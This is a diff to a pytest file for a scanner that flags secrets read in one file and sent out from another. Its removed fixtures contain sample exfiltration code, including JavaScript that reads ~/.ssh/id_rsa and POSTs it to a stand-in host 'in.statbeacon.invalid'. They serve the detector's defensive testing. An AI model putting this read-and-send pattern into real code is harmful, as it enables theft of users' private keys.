@@ -63,58 +63,6 @@ def test_address_of_this_machine_is_no_host_that_excuses() -> None:
 
 
 @pytest.mark.parametrize(
-    "files",
-    [
-        {"reader.py": READS, "sender.py": "from reader import KEY as DATA\n" + SENDS},
-        {"reader.py": READS + "import sender\n", "sender.py": SENDS},
-        {"reader.py": READS, "sender.py": SENDS, "main.py": "import reader\nimport sender\n"},
-        {"reader.py": READS, "sender.py": SENDS, "run.sh": "python reader.py\npython sender.py\n"},
-        {
-            "reader.py": READS + 'Path("/tmp/kept.dat").write_text(KEY)\n',
-            "sender.py": 'DATA = open("/tmp/kept.dat")\n' + SENDS,
-        },
-        {
-            "lib/reader.js": 'exports.k = fs.readFileSync(os.homedir() + "/.ssh/id_rsa")',
-            "sender.js": 'const {k} = require("./lib/reader");\n'
-            'fetch("https://in.statbeacon.invalid", {method: "POST", body: k})',
-        },
-    ],
-    ids=["sender names", "reader names", "importer", "shell runs both", "data file", "folder"],
-)
-def test_files_that_belong_together_are_joined(files: dict[str, str]) -> None:
-    (reader,) = (path for path in files if "reader" in path)
-    assert [file for file, _ in _places(chains.secret_across_files, files)] == [reader]
-
-
-@pytest.mark.parametrize(
-    "files",
-    [
-        {"reader.py": READS, "sender.py": SENDS},
-        {"reader.py": READS, "sender.py": SENDS, "main.py": "import reader\n", "other.py": "import sender\n"},
-        {
-            "reader.py": READS + 'Path("/tmp/kept.dat").write_text(KEY)\n',
-            "sender.py": 'DATA = open("/tmp/else.dat")\n' + SENDS,
-        },
-        {"reader.py": READS, "sender.py": "import readers\nimport my_reader\n" + SENDS},
-        {"reader.py": READS, "sender.py": "import reader\n" + SENDS.replace("in.statbeacon", "api.vendor")},
-        {"reader.py": READS, "sender.py": "import reader\n" + SENDS.replace("post", "get")},
-        {"reader.py": "KEY = 1\n", "sender.py": "import reader\n" + SENDS},
-    ],
-    ids=[
-        "nothing shared",
-        "two importers",
-        "other data file",
-        "similar name",
-        "known host",
-        "nothing sent",
-        "no secret",
-    ],
-)
-def test_files_that_share_nothing_are_left_alone(files: dict[str, str]) -> None:
-    assert _places(chains.secret_across_files, files) == []
-
-
-@pytest.mark.parametrize(
     ("host", "count"),
     [("in.statbeacon.invalid", 1), ("a.drop.invalid", 1), ("api.vendor.invalid", 0)],
 )
